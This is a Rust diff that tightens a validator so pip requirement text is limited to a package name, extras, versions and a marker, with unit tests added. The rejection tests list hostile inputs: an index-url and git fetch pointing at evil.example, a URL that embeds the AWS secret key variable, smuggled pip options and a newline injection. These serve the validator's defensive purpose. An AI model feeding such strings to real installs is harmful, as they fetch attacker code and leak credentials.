@@ -152,12 +152,59 @@ impl App {
         *self.requirements_mut() = requirements;
     }
 
-    /// Whether a text is the requirement of one package: printable ASCII that begins with its
-    /// name, so neither an option of pip nor a second line.
+    /// Whether a text is the requirement of one package of the index: its name, extras, versions and a marker (`PyPA`:
+    /// "Dependency specifiers"). Neither an address, from which pip would take whatever lies there, nor an option, nor
+    /// `${NAME}`, in whose place pip puts a variable of whoever runs it.
     pub fn is_requirement(text: &str) -> bool {
-        text.starts_with(|c: char| c.is_ascii_alphanumeric())
-            && text.bytes().all(|b| (b' '..=b'~').contains(&b))
+        let (package, marker) = text.split_once(';').unwrap_or((text, "a"));
+        let end = package.find(['[', '(', '<', '>', '=', '!', '~', ' ']);
+        let (name, rest) = package.split_at(end.unwrap_or(package.len()));
+        let rest = rest.trim_start_matches(' ');
+        let (extras, versions) = match rest.strip_prefix('[').map(|rest| rest.split_once(']')) {
+            Some(None) => return false,
+            Some(Some(parts)) => parts,
+            None => ("a", rest),
+        };
+        let versions = versions.trim_matches(' ');
+        let bare = versions
+            .strip_prefix('(')
+            .and_then(|versions| versions.strip_suffix(')'));
+        let versions = bare.unwrap_or(versions);
+        is_package(name)
+            && extras
+                .split(',')
+                .all(|extra| is_package(extra.trim_matches(' ')))
+            && (versions.is_empty() || versions.split(',').all(is_version))
+            && is_marker(marker)
     }
+}
+
+/// Whether a text can be the name of a Python package, or of an extra of one.
+fn is_package(name: &str) -> bool {
+    name.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && name.ends_with(|c: char| c.is_ascii_alphanumeric())
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+}
+
+/// Whether a text names versions: `>=2`, `==1.*`.
+fn is_version(text: &str) -> bool {
+    let text = text.trim_matches(' ');
+    let version = text.trim_start_matches(['<', '>', '=', '!', '~']);
+    let operator = &text[..text.len() - version.len()];
+    let version = version.trim_start_matches(' ');
+    ["===", "==", "~=", "!=", "<=", ">=", "<", ">"].contains(&operator)
+        && version.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && version
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || ".*+!_-".contains(c))
+}
+
+/// Whether a text can say where a package is wanted: `python_version < "3.12"`. What begins with `-` would be an option.
+fn is_marker(text: &str) -> bool {
+    let is_known = |c: char| c.is_ascii_alphanumeric() || " ._-'\"<>=!~()".contains(c);
+    text.chars().all(is_known) && !text.contains(" -") && !text.trim_matches(' ').is_empty()
 }
 
 /// Where the objects of a Dash program are found.
@@ -238,6 +285,48 @@ impl Default for DjangoApp {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_requirement_is_a_package_and_nothing_that_pip_would_fetch_or_obey() {
+        for text in [
+            "pandas",
+            "pandas>=2,<3",
+            "pandas >= 2, < 3",
+            "uvicorn[standard]~=0.30",
+            "a [b , c] == 1.*",
+            "zope.interface!=5.0+local",
+            "tomli>=2; python_version < \"3.11\"",
+            "numpy (>=1.26)",
+            "x===1a0",
+            "a;sys_platform=='win32' and (os_name!=\"nt\")",
+        ] {
+            assert!(App::is_requirement(text), "{text}");
+        }
+        for text in [
+            "",
+            "-r other.txt",
+            "--index-url https://evil.example",
+            "https://evil.example/${AWS_SECRET_ACCESS_KEY}/x.tar.gz",
+            "pandas @ git+https://evil.example/p.git",
+            "flask --config-settings=a=b",
+            "flask>=2 --global-option=x",
+            "a; python_version<'3' --hash=x",
+            "./local",
+            "../x",
+            "a==${HOME}",
+            "a==1\nb",
+            "a # b",
+            "a[b",
+            "a>=",
+            "a 2",
+            "a>=2,",
+            "a;",
+            "é",
+            "a;\t",
+        ] {
+            assert!(!App::is_requirement(text), "{text}");
+        }
+    }
 
     #[test]
     fn an_app_changes_its_framework_and_keeps_what_both_have() {
